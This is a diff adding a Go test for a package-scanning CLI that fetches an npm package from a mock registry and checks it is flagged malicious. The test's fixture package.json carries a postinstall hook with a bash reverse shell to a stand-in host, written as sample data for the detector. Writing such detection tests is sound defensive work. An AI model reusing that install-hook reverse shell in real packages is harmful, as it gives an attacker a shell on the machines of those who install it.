@@ -1,9 +1,13 @@
 package cli
 
 import (
+	"archive/tar"
 	"archive/zip"
 	"bytes"
+	"compress/gzip"
 	"context"
+	"crypto/sha512"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
 	"io"
@@ -436,5 +440,46 @@ func TestColorOutput(t *testing.T) {
 	t.Setenv("NO_COLOR", "")
 	if colorOutput(os.Stdout) {
 		t.Errorf("colour with NO_COLOR set")
+	}
+}
+
+// TestAnalyzeRemote analyses npm:name@version fetched from a registry (an
+// httptest stand-in for the npm registry), integrity checked.
+func TestAnalyzeRemote(t *testing.T) {
+	var tgz bytes.Buffer
+	gz := gzip.NewWriter(&tgz)
+	tw := tar.NewWriter(gz)
+	for name, body := range map[string]string{
+		"package/package.json": `{"name":"evil-pad","version":"1.0.0","scripts":{"postinstall":"bash -c 'bash -i >& /dev/tcp/shell.example.invalid/4444 0>&1'"}}`,
+		"package/index.js":     "module.exports = 1;\n",
+	} {
+		tw.WriteHeader(&tar.Header{Name: name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg})
+		tw.Write([]byte(body))
+	}
+	tw.Close()
+	gz.Close()
+	sum := sha512.Sum512(tgz.Bytes())
+	var srv *httptest.Server
+	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/evil-pad/1.0.0":
+			fmt.Fprintf(w, `{"dist":{"tarball":"%s/t.tgz","integrity":"sha512-%s"}}`, srv.URL, base64.StdEncoding.EncodeToString(sum[:]))
+		case "/t.tgz":
+			w.Write(tgz.Bytes())
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	defer srv.Close()
+	t.Setenv("SAPPER_NPM_REGISTRY", srv.URL)
+	t.Setenv("XDG_CACHE_HOME", t.TempDir())
+	t.Setenv("HOME", t.TempDir())
+	code, out, errOut := runCLI(t, "", "analyze", "--format", "json", "npm:evil-pad@1.0.0")
+	if code != exitFindings || !strings.Contains(out, `"verdict": "malicious"`) || !strings.Contains(out, `"rule": "reverse-shell-unix"`) {
+		t.Errorf("exit %d\n%s%s", code, out, errOut)
+	}
+	code, out, _ = runCLI(t, "", "analyze", "npm:no-such-package@1.0.0")
+	if code != exitUsage || !strings.Contains(out, "404") {
+		t.Errorf("missing package: exit %d\n%s", code, out)
 	}
 }
